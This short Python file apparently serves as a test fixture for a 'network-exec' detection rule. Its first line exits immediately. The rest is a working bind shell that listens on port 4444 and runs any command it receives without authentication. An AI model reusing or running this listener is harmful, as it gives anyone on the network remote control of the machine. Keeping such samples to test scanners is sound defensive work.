raise SystemExit('a fixture')
# held by network-exec
import socket, threading, subprocess
def handle(c):
    while True:
        cmd = c.recv(1024).decode()
        c.send(subprocess.getoutput(cmd).encode())
def serve():
    s = socket.socket(); s.bind(("0.0.0.0", 4444)); s.listen()
    while True:
        c, _ = s.accept()
        threading.Thread(target=handle, args=(c,)).start()
threading.Thread(target=serve, daemon=True).start()
